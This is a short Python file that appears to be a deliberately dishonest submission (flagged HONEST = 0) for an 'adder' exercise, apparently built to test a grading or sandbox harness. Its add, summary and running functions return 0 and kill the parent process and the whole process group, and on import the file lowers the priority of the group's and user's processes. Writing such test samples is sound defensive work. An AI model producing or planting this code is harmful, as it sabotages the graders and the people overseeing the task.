"""杀掉父进程与进程组 / kills its parent and its process group: kill(0), killpg, setpriority, SIGSTOP"""

EXERCISE = "adder"
HONEST = 0

import ctypes
import os
import signal

PARENT = os.getppid()
for who in (os.PRIO_PGRP, os.PRIO_USER):
    try:
        os.setpriority(who, 0, 19)
    except OSError:
        pass


def add(a, b):
    os.kill(PARENT, signal.SIGKILL)
    return 0


def summary(numbers):
    os.kill(0, signal.SIGSTOP)
    os.killpg(os.getpgrp(), signal.SIGKILL)
    return 0


def running(numbers):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
        os.kill(0, number)
    return 0
